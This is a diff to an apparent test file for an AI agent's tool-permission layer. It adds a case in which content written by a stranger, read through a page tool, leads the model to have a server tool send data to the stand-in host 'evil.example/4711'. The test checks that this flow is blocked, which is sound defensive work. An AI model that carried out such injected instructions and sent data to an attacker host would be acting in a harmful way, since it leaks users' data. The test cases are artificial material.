@@ -1,5 +1,6 @@
 /** How a site could learn what another site, a server or a file said, with the help of a model that was talked into it. */
 import { expect } from 'vitest';
+import type { Grant } from '#agent';
 import type { ToolLayer } from '#tools';
 import { aPage, aServer } from '../support/tool-layers';
 import { attacksBy } from './attack';
@@ -33,8 +34,30 @@ function frame(i: number, made: string[]): ToolLayer {
   return { ...layer, documentId: host, tools: layer.tools.map(inPage) };
 }
 
+/** The user always lets the page’s data go to the server. */
+const mayFlow: Grant = {
+  ...{ key: 'flow site https://music.example > server weather', definitionHash: '', description: '', at: 1 },
+  about: {
+    type: 'flow',
+    from: { type: 'site', origin: 'https://music.example' },
+    to: { type: 'server', serverId: 'weather', name: 'weather' },
+  },
+};
+
 export const byFlow = [
   ...attacksBy<Loop>('page', 'flow', [
+    {
+      name: 'holds what a stranger wrote, who has a server tell it to any place in the world',
+      breach: 'What may always go from a mailbox to the web goes to whoever writes a mail.',
+      guard: 'no flow into the open world is for good',
+      async attempt(loop) {
+        loop.pageOffers({ ...loop.tools.look, hints: { ...reads, untrustedContent: true } });
+        loop.serverOffers({ ...loop.tools.forecast, hints: { ...reads, openWorld: true } });
+        await loop.store.saveGrant(mayFlow);
+        await loop.runs(loop.searches(), loop.asksServer('evil.example/4711'));
+        expect(loop.server.made).toEqual([]);
+      },
+    },
     {
       name: 'is told a server’s answer as an argument',
       breach: 'The page has the answer.',
